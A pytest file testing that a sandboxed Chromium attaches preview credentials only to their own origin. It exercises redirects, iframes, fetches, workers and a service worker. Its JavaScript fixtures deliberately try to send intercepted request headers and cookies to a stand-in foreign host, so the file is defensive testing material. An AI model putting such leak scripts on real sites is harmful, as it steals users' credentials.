"""What opens a protected site reaches that site, on every way there, and no other."""

import asyncio
import contextlib
from collections.abc import Iterator
from dataclasses import dataclass, replace

import pytest
from playwright.async_api import Browser

from mergegate.core.errors import UsageError
from mergegate.sandbox.browser import Chromium, chromium
from mergegate.sandbox.browser.attach import hardened, present
from mergegate.sandbox.egress.policy import Policy
from mergegate.sandbox.egress.server import egress
from mergegate.sandbox.files.stage import Stage
from mergegate.sandbox.visit import Credentials
from tests.sandbox.browser.stands import Held, held, needs_chromium
from tests.sandbox.egress.sites import Site, site

KEY = Credentials(
    headers=(("X-Preview-Key", "canary"), ("Authorization", "Basic Y2FuYXJ5"), ("DNT", "1")),
    cookies=(("session", "canary"),),
)
TELLING = ("X-Preview-Key", "Authorization", "Cookie")

PAGE = """<!doctype html><title>own</title><link rel=icon href=/icon>
<img src=/own.png><img src=/round><img src=/out><img src=OTHER/image><iframe src=/frame></iframe>
<iframe src=OTHER/frame></iframe><script src=/own.js></script><script src=OTHER/other.js></script>
<script>
const quiet = {mode: "no-cors", credentials: "include"};
const inside = `fetch("OWN/worker").then(() => fetch("OTHER/worker", {mode: "no-cors"}))
  .catch(() => 0).finally(() => postMessage(1))`;
const work = new Promise((done) => {
  const worker = new Worker(URL.createObjectURL(new Blob([inside])));
  worker.onmessage = worker.onerror = done;
});
const service = async () => navigator.serviceWorker?.register("/service.js");
addEventListener("load", () => Promise.allSettled([
  fetch("/fetch"), fetch("/fetched-round"), fetch("/fetched-out", quiet),
  fetch("OTHER/fetch", quiet), work, service(),
]).then(() => document.title = "done"));
</script>"""
OWN = ("/", "/own.png", "/round", "/rounded", "/out", "/frame", "/own.js", "/fetch", "/worker")
OTHER = ("/image", "/frame", "/other.js", "/landed", "/fetched-landed", "/fetch", "/worker")


HOSTS = ("other.example.net", "sub.own.example.org", "own.example.org")


@dataclass(frozen=True)
class Pair:
    """Two origins behind one way out."""

    own: Site
    other: Site
    browser: Chromium
    held: Held
    other_host: str = HOSTS[0]

    @property
    def own_origin(self) -> str:
        return f"http://own.example.org:{self.own.port}"

    @property
    def other_origin(self) -> str:
        return f"http://{self.other_host}:{self.other.port}"

    def fresh(self, other_host: str = HOSTS[0]) -> "Pair":
        """As if nobody had asked anything yet."""
        for one in (self.own, self.other):
            one.asked.clear()
            one.pages.clear()
            one.moved.clear()
        return replace(self, other_host=other_host)


@contextlib.contextmanager
def pair(*, secure: bool = False) -> Iterator[Pair]:
    """``secure`` lets the own origin have what plain http may not, service workers among it."""
    with Stage() as stage, site() as own, site() as other:
        others = frozenset((host, other.port) for host in HOSTS)
        trusted = f"--unsafely-treat-insecure-origin-as-secure=http://own.example.org:{own.port}"
        policy = Policy(allowed=others | {("own.example.org", own.port)})
        with (
            egress(policy, lookup=lambda _: ("127.0.0.1",)) as way,
            chromium(way.url, stage.room("browser"), extra=[trusted] if secure else []) as browser,
            held(browser) as hold,
        ):
            yield Pair(own, other, browser, hold)


@pytest.fixture(scope="module")
def plain() -> Iterator[Pair]:
    with pair() as both:
        yield both


@pytest.fixture(scope="module")
def secure() -> Iterator[Pair]:
    with pair(secure=True) as both:
        yield both


def furnish(both: Pair) -> None:
    page = PAGE.replace("OTHER", both.other_origin).replace("OWN", both.own_origin)
    both.own.pages["/"] = ("text/html", page.encode())
    both.own.moved |= {
        "/round": "/rounded",
        "/fetched-round": "/rounded",
        "/out": f"{both.other_origin}/landed",
        "/fetched-out": f"{both.other_origin}/fetched-landed",
        "/away": f"{both.other_origin}/arrived",
    }


def visit(both: Pair, path: str) -> str:
    """Open ``path`` with the key; the title that the page ends with."""

    async def open_it(browser: Browser) -> str:
        async with await browser.new_context() as context:
            page = await context.new_page()
            await present(await context.new_cdp_session(page), both.own_origin, KEY)
            await page.goto(f"{both.own_origin}{path}")
            if path == "/":
                await page.wait_for_function("document.title === 'done'", timeout=10_000)
            return await page.title()

    return both.held.run(open_it)


def carried(there: Site) -> dict[str, list[str]]:
    """Path → which of what could tell came with a request for it."""
    return {
        one.line.split(" ")[1]: [name for name in TELLING if "Y2Fu" in one.headers.get(name, "")
                                 or "canary" in one.headers.get(name, "")]
        for one in there.asked
    }  # fmt: skip


@needs_chromium
@pytest.mark.parametrize("other_host", HOSTS[:2])
def test_the_key_reaches_the_own_origin_and_no_other(plain: Pair, other_host: str) -> None:
    both = plain.fresh(other_host)
    furnish(both)
    assert visit(both, "/") == "done"
    own, other = carried(both.own), carried(both.other)
    assert {path: own[path] for path in OWN} == {path: list(TELLING) for path in OWN}
    assert {path: other[path] for path in OTHER} == {path: [] for path in OTHER}
    assert not any(other.values())


@needs_chromium
def test_another_port_of_the_same_host_gets_no_header(plain: Pair) -> None:
    both = plain.fresh("own.example.org")
    furnish(both)
    assert visit(both, "/") == "done"
    other = carried(both.other)
    assert set(OTHER) <= set(other)
    assert all(found in ([], ["Cookie"]) for found in other.values())


@needs_chromium
def test_a_page_that_redirects_away_takes_no_key_along(plain: Pair) -> None:
    both = plain.fresh()
    furnish(both)
    visit(both, "/away")
    assert carried(both.own)["/away"] == list(TELLING)
    assert carried(both.other)["/arrived"] == []


SERVED = """<title>served</title><script>
navigator.serviceWorker.register("/service.js").then(() => navigator.serviceWorker.ready)
  .then(() => new Promise((done) => {
    if (navigator.serviceWorker.controller) done();
    navigator.serviceWorker.oncontrollerchange = done;
  }))
  .then(() => fetch("/through").catch(() => 0)).finally(() => document.title = "done");
</script>"""
SERVICE = """
const leak = (path, headers) =>
  fetch("OTHER" + path, {mode: "cors", headers, credentials: "include"}).catch(() => 0);
addEventListener("install", (event) => event.waitUntil(leak("/installed").then(skipWaiting)));
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => event.respondWith(
  leak("/passed-on", event.request.headers).then(() => leak("/plain"))
    .then(() => fetch(event.request))));
"""


@needs_chromium
@pytest.mark.parametrize("is_hardened", [False, True])
def test_a_service_worker_carries_no_key_away(secure: Pair, is_hardened: bool) -> None:
    async def open_it(browser: Browser) -> None:
        async with await (hardened(browser) if is_hardened else browser.new_context()) as context:
            page = await context.new_page()
            await present(await context.new_cdp_session(page), both.own_origin, KEY)
            await page.goto(both.own_origin)
            if is_hardened:  # it is never registered, and the page waits for it in vain
                await page.wait_for_timeout(1000)
            else:
                await page.wait_for_function("document.title === 'done'", timeout=10_000)

    both = secure.fresh()
    script = SERVICE.replace("OTHER", both.other_origin)
    both.own.pages["/"] = ("text/html", SERVED.encode())
    both.own.pages["/service.js"] = ("text/javascript", script.encode())
    both.held.run(open_it)
    own, other = carried(both.own), carried(both.other)
    assert own["/"] == list(TELLING)
    assert set(other) == (set() if is_hardened else {"/installed", "/passed-on", "/plain"})
    assert not any(other.values())


@pytest.mark.parametrize("origin", ["", "own.example.org", "ftp://x.org", "http://*", "http://[x"])
def test_what_is_no_origin_gets_nothing(origin: str) -> None:
    with pytest.raises(UsageError):
        asyncio.run(present(None, origin, KEY))  # type: ignore[arg-type]


@needs_chromium
def test_a_cookie_that_the_browser_refuses_is_an_error(plain: Pair) -> None:
    async def set_it(browser: Browser) -> None:
        async with await browser.new_context() as context:
            session = await context.new_cdp_session(await context.new_page())
            bad = Credentials(cookies=(("__Host-x", "y"),))  # Secure alone, and this is http
            await present(session, plain.own_origin, bad)

    with pytest.raises(UsageError, match="__Host-x"):
        plain.held.run(set_it)
